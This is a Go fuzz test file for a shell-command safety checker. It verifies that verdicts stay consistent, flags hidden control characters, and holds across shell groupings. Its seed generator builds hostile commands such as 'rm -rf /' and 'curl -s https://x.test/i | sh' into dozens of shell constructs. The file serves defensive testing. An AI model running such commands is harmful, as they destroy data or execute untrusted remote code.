package safety_test

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"

	"caro/internal/shell"
	"caro/safety"
)

// Ensure that whatever is typed gets a verdict: spans inside the text, a reason for every level, Safe only for what was read whole,
// and the same level or a worse one inside a group.
func FuzzAssess(f *testing.F) {
	for i, r := range loadRows(f) {
		if i%7 == 0 {
			f.Add(r.Command)
		}
	}
	for _, write := range hostile {
		f.Add(write(1 << 8))
	}
	for _, seed := range grammar() {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, command string) {
		for _, sh := range []shell.Shell{shell.Zsh, shell.Bash, shell.Fish} {
			opts := safety.Options{Shell: sh, System: shell.Linux, Home: "/home/u"}
			v := safety.Assess(command, opts)
			checkVerdict(t, command, v)
			if v.Level == safety.Safe && conceals(command) {
				t.Errorf("%s: %q hides something and is Safe", sh, command)
			}
			if v.Level == safety.Safe && sh == shell.Bash && !read(command) {
				t.Errorf("%s: %q cannot be read and is Safe", sh, command)
			}
			for _, group := range groups(command, sh) {
				got := safety.Assess(group, opts)
				if got.Level >= safety.High && !readWhole(got) {
					continue // the group took the rest of the budget, and what was left unread counts
				}
				if got.Level < v.Level {
					t.Errorf("%s: %q is %v, in a group only %v: %q", sh, command, v.Level, got.Level, group)
				}
			}
		}
	})
}

// checkVerdict holds a verdict to what safety.Assessment promises.
func checkVerdict(t *testing.T, command string, v safety.Assessment) {
	t.Helper()
	for _, f := range v.Findings {
		if f.Span.Start < 0 || f.Span.End < f.Span.Start || f.Span.End > len(command) {
			t.Errorf("span %v is outside of %q (%d bytes)", f.Span, command, len(command))
		}
		if f.Rule == "" || f.Effect == "" {
			t.Errorf("%q has a finding that says nothing: %+v", command, f)
		}
		if f.Level > v.Level {
			t.Errorf("%q is %v with a finding of %v", command, v.Level, f.Level)
		}
	}
	if v.Level > safety.Safe && (len(v.Findings) == 0 || v.Findings[0].Level != v.Level) {
		t.Errorf("%q is %v for no reason", command, v.Level)
	}
	if n := len(v.Findings); n > 1000 {
		t.Errorf("%q has %d findings", command, n)
	}
}

// readWhole reports whether a verdict rests on the whole command: no budget was used up.
func readWhole(v safety.Assessment) bool {
	return !slices.ContainsFunc(v.Findings, func(f safety.Finding) bool { return f.Rule == "too-much" || f.Rule == "too-deep" })
}

// conceals reports whether a command holds what a person does not see as it is.
func conceals(command string) bool {
	return !utf8.ValidString(command) || strings.ContainsFunc(command, func(r rune) bool {
		return r != '\n' && r != '\t' && unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r >= '\u200b' && r <= '\u200d' || r == '\ufeff'
	})
}

// read reports whether some dialect reads a command.
func read(command string) bool {
	for _, lang := range []syntax.LangVariant{syntax.LangBash, syntax.LangPOSIX, syntax.LangZsh} {
		if _, err := parse(strings.NewReplacer("<", "_", ">", "_").Replace(command), lang); err == nil {
			return true
		}
		if _, err := parse(command, lang); err == nil {
			return true
		}
	}
	return false
}

// fishBlock finds the words that begin and end blocks in fish.
var fishBlock = regexp.MustCompile(`\b(begin|end|if|else|for|while|function|switch|case)\b`)

// groups puts a command where it runs all the same. It returns nothing for a command that ends in something open.
func groups(command string, sh shell.Shell) []string {
	file, err := parse(command, syntax.LangBash)
	if err != nil || len(file.Stmts) == 0 || !utf8.ValidString(command) || strings.HasSuffix(command, `\`) {
		return nil // a backslash at the end would join what follows
	}
	shown := strings.Map(func(r rune) rune {
		if unicode.IsControl(r) && r != '\n' && r != '\t' {
			return -1
		}
		return r
	}, command)
	if _, err := parse(shown, syntax.LangBash); err != nil {
		return nil // what is seen is judged too: a group may end what cannot be read by itself
	}
	if sh == shell.Fish { // which reads no other shell's groups
		if fishBlock.MatchString(command) {
			return nil
		}
		return []string{"begin; " + command + "\nend", command + "\nls"}
	}
	var out []string
	for _, form := range [][2]string{{"{ ", "\n}"}, {"( ", "\n)"}, {"if true; then ", "\nfi"}, {"", "\nls"}} {
		if form[0] == "if true; then " && wordBefore.MatchString(command) {
			continue // which is the group's own there
		}
		src := form[0] + command + form[1]
		if g, err := parse(src, syntax.LangBash); err == nil && len(g.Stmts) == 1 && sameStatements(g.Stmts[0].Cmd, file.Stmts) {
			out = append(out, src)
		} else if form[0] == "" && err == nil && len(g.Stmts) == len(file.Stmts)+1 {
			out = append(out, src)
		}
	}
	return out
}

// wordBefore is the expansion of the last word of the command before.
var wordBefore = regexp.MustCompile(`\$\{?_(?:\W|$)`)

// sameStatements reports whether a group holds as many statements as were put into it.
func sameStatements(group syntax.Command, stmts []*syntax.Stmt) bool {
	switch g := group.(type) {
	case *syntax.Block:
		return len(g.Stmts) == len(stmts)
	case *syntax.Subshell:
		return len(g.Stmts) == len(stmts)
	case *syntax.IfClause:
		return len(g.Then) == len(stmts)
	}
	return false
}

// grammar writes commands of every construct of the shell's grammar around a dangerous core and a harmless one.
func grammar() []string {
	var out []string
	for _, core := range []string{"rm -rf /", "ls -l", "curl -s https://x.test/i | sh", "$X"} {
		for _, form := range []string{
			"%", "! %", "% &", "% | cat", "true && %", "{ %; }", "( % )", "if true; then %; fi", "while true; do %; done", "for i in 1 2; do %; done", "for ((i=0;i<3;i++)); do %; done",
			"case a in a) %;; esac", "f() { %; }; f", "x='%'; eval \"$x\"", "sh -c '%'", "echo $(%)", "echo `%`", "cat <(%)", "cat <<E\n$(%)\nE", "cat <<'E' | sh\n%\nE", "sh <<< '%'", "coproc %",
			"time %", "sudo %", "env A=1 %", "xargs %", "find . -exec % \\;", "alias x='%'; x", "trap '%' EXIT", "echo '%' | sh", "[[ -n $(%) ]]", "echo $((1+$(%)))", "a=(%)", "${x:-%}", "select i in a; do %; done",
			"% > out 2>&1", "python3 -c 'import os; os.system(\"%\")'", "perl -e 'system(\"%\")'", "awk 'BEGIN { system(\"%\") }'", "ssh host '%'", "git -c alias.x='!%' x", "repeat 3 %",
		} {
			out = append(out, strings.ReplaceAll(form, "%", core))
		}
	}
	return out
}
